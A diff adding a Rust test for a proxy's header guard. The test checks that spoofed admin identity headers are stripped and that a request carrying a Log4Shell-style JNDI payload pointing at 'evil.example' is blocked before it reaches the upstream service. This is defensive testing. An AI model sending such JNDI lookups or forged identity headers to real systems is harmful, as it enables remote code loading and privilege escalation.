@@ -96,3 +96,26 @@ fn readme_walkthrough_error_shield() {
     assert_eq!(r.header("server"), None);
     assert!(!r.text().contains("acme"));
 }
+
+#[test]
+fn readme_walkthrough_header_guard() {
+    let e = start_demo();
+    // curl -s localhost:10000/orders -H 'x-internal-user: admin' -H 'x-jwt-sub: admin'
+    let r = e.get(
+        "/orders",
+        &[("x-internal-user", "admin"), ("x-jwt-sub", "admin")],
+    );
+    assert_eq!(r.status, 200, "{}", r.text());
+    let seen = r.echoed();
+    assert_eq!(seen.header("x-internal-user"), None);
+    assert_eq!(seen.header("x-jwt-sub"), None);
+    assert_eq!(r.header("x-content-type-options"), Some("nosniff"));
+    // curl -si localhost:10000/orders -H 'user-agent: ${jndi:ldap://evil.example/a}'
+    let before = e.upstream_seen().len();
+    e.get(
+        "/orders",
+        &[("user-agent", "${jndi:ldap://evil.example/a}")],
+    )
+    .assert_problem(400, "header_guard.denied_pattern");
+    assert_eq!(e.upstream_seen().len(), before, "the upstream saw nothing");
+}
